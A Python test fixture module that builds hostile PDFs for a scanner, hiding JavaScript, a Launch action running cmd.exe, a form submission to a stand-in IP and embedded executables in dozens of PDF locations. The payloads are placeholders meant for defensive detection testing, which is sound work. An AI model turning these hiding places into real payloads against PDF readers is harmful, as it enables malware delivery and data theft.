"""Files with something alive in every place where PDF has room for it."""

from __future__ import annotations

from tests.hostile.raw import document, stream

SCRIPT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
PROGRAM = b"<< /S /Launch /F (calc.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>"
SENDING = b"<< /S /SubmitForm /F << /FS /URL /F (http://192.0.2.1/) >> /Flags 4 >>"
EMBEDDED = b"<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> /UF (a.exe) >>"
CHAIN = b"<< /S /GoTo /D [3 0 R /Fit] /Next [<< /S /Named /N /NextPage /Next %s >>] >>" % SCRIPT
_FILE = stream(b"MZ...", b"/Type /EmbeddedFile")


def _annotation(kind: bytes, entries: bytes) -> bytes:
    return b"<< /Type /Annot /Subtype /%s /Rect [10 10 90 90] %s >>" % (kind, entries)


def on_opening() -> bytes:
    return document(SCRIPT, catalog=b"/OpenAction 4 0 R")


def behind_a_harmless_action() -> bytes:
    return document(CHAIN, catalog=b"/OpenAction 4 0 R")


def before_printing() -> bytes:
    return document(SCRIPT, catalog=b"/AA << /WP 4 0 R /DS 4 0 R >>")


def in_the_name_tree() -> bytes:
    return document(SCRIPT, catalog=b"/Names << /JavaScript << /Names [(a) 4 0 R] >> >>")


def on_a_page() -> bytes:
    return document(PROGRAM, page=b"/AA << /O 4 0 R >>")


def in_a_link() -> bytes:
    links = [_annotation(b"Link", b"/A " + action) for action in (SCRIPT, PROGRAM, SENDING, CHAIN)]
    return document(page=b"/Annots [" + b" ".join(links) + b"]")


def in_a_previous_action_of_a_link() -> bytes:
    """/PA, the action that a converted web page kept (ISO 32000-1, table 173)."""
    return document(page=b"/Annots [" + _annotation(b"Link", b"/PA " + SCRIPT) + b"]")


def in_a_button() -> bytes:
    button = _annotation(b"Widget", b"/FT /Btn /Ff 65536 /T (b) /A %s /AA << /E %s >>" % (SCRIPT, PROGRAM))
    return document(button, catalog=b"/AcroForm << /Fields [4 0 R] /CO [4 0 R] >>", page=b"/Annots [4 0 R]")


def in_a_field_without_a_widget() -> bytes:
    field = b"<< /FT /Tx /T (x) /AA << /C %s /K %s >> >>" % (SCRIPT, SCRIPT)
    return document(field, catalog=b"/AcroForm << /Fields [4 0 R] >>")


def in_a_bookmark() -> bytes:
    item = b"<< /Title (a) /Parent 4 0 R /A %s >>" % SCRIPT
    return document(b"<< /Type /Outlines /First 5 0 R /Last 5 0 R >>", item, catalog=b"/Outlines 4 0 R")


def in_a_bookmark_whose_kind_is_an_object_of_its_own() -> bytes:
    item = b"<< /Title (a) /Parent 4 0 R /A << /S 6 0 R /JS (app.alert\\(1\\)) >> >>"
    outlines = b"<< /Type /Outlines /First 5 0 R /Last 5 0 R >>"
    return document(outlines, item, b"/JavaScript", catalog=b"/Outlines 4 0 R")


def in_a_comment_with_a_popup() -> bytes:
    note = _annotation(b"Text", b"/Contents (a) /Popup 5 0 R /AA << /E %s >>" % SCRIPT)
    popup = _annotation(b"Popup", b"/Parent 4 0 R /AA << /E %s >>" % PROGRAM)
    return document(note, popup, page=b"/Annots [4 0 R 5 0 R]")


def in_a_reply_that_no_page_lists() -> bytes:
    note = _annotation(b"Text", b"/Contents (a)")
    reply = _annotation(b"Text", b"/IRT 4 0 R /Contents (b) /A %s" % SCRIPT)
    return document(note, reply, page=b"/Annots [4 0 R]")


def attached_to_the_document() -> bytes:
    names = b"/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>"
    return document(EMBEDDED, _FILE, catalog=names + b" /AF [4 0 R] /Collection << /View /T >>")


def attached_to_the_page() -> bytes:
    return document(EMBEDDED, _FILE, page=b"/AF [4 0 R]")


def attached_to_a_picture() -> bytes:
    image = b"/Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceGray "
    page = b"/Contents 7 0 R /Resources << /XObject << /I 6 0 R >> >>"
    return document(EMBEDDED, _FILE, stream(b"x", image + b"/AF [4 0 R]"), stream(b"/I Do"), page=page)


def attached_to_a_structure_element() -> bytes:
    root = b"<< /Type /StructTreeRoot /K [7 0 R] >>"
    element = b"<< /Type /StructElem /S /P /P 6 0 R /AF [4 0 R] >>"
    return document(EMBEDDED, _FILE, root, element, catalog=b"/StructTreeRoot 6 0 R")


def attached_by_an_annotation() -> bytes:
    pin = _annotation(b"FileAttachment", b"/FS 4 0 R")
    return document(EMBEDDED, _FILE, page=b"/Annots [" + pin + b"]")


def attached_to_a_link() -> bytes:
    jump = b"/A << /S /GoToE /D [0 /Fit] /T << /R /C /N (a) >> >> /AF [4 0 R]"
    return document(EMBEDDED, _FILE, page=b"/Annots [" + _annotation(b"Link", jump) + b"]")


def in_private_data_of_a_program() -> bytes:
    """/PieceInfo (ISO 32000-1, 14.5) may hold anything."""
    private = b"/PieceInfo << /Any << /LastModified (D:2026) /Private << /A %s /F 4 0 R >> >> >>" % SCRIPT
    return document(EMBEDDED, _FILE, catalog=private, page=private)


def attached_beside_another_entry() -> bytes:
    embedded = EMBEDDED.replace(b"/EF << ", b"/EF << /X 1 ")
    private = b"/PieceInfo << /Any << /LastModified (D:2026) /Private << /F 4 0 R >> >> >>"
    return document(embedded, _FILE, catalog=private)


def players() -> bytes:
    media = b"/RichMediaContent << /Assets << /Names [(a) 4 0 R] >> >> /RichMediaSettings << >>"
    annotations = [
        _annotation(b"RichMedia", media),
        _annotation(b"Screen", b"/A << /S /Rendition /JS (app.alert\\(1\\)) /OP 0 >>"),
        _annotation(b"Movie", b"/Movie << /F 4 0 R >> /A true"),
        _annotation(b"Sound", b"/Sound 5 0 R"),
        _annotation(b"3D", b"/3DD 6 0 R"),
    ]
    model = stream(b"U3D\0", b"/Type /3D /Subtype /U3D /OnInstantiate 7 0 R")
    return document(
        EMBEDDED, _FILE, model, stream(b"x", b""), page=b"/Annots [" + b" ".join(annotations) + b"]"
    )


def in_another_view_of_a_picture() -> bytes:
    """A name tree of renditions, templates and pages that nobody sees."""
    hidden = b"<< /Type /Template /MediaBox [0 0 99 99] /AA << /O %s >> >>" % SCRIPT
    rendition = b"<< /S /MR /C << /S /MCD /D 4 0 R >> /AA %s >>" % PROGRAM
    names = b"/Names << /Templates << /Names [(a) 6 0 R] >> /Renditions << /Names [(b) 7 0 R] >> "
    names += b"/AlternatePresentations << /Names [(c) 4 0 R] >> /URLS << /Names [(d) 6 0 R] >> >>"
    return document(EMBEDDED, _FILE, hidden, rendition, catalog=names)


def in_a_layer() -> bytes:
    group = b"<< /Type /OCG /Name (a) /AF [4 0 R] >>"
    return document(
        EMBEDDED, _FILE, group, catalog=b"/OCProperties << /OCGs [6 0 R] /D << /Order [6 0 R] >> >>"
    )


def web_capture() -> bytes:
    """/SpiderInfo, /URI base, /Threads with actions, /Legal, /Extensions."""
    thread = b"<< /Type /Thread /F 5 0 R /I << /Title (a) >> /AA %s >>" % SCRIPT
    bead = b"<< /T 4 0 R /N 5 0 R /V 5 0 R /P 3 0 R /R [0 0 9 9] >>"
    catalog = b"/Threads [4 0 R] /SpiderInfo << /V 1.0 /C [] >> /URI << /Base (javascript:alert) >>"
    return document(thread, bead, catalog=catalog)
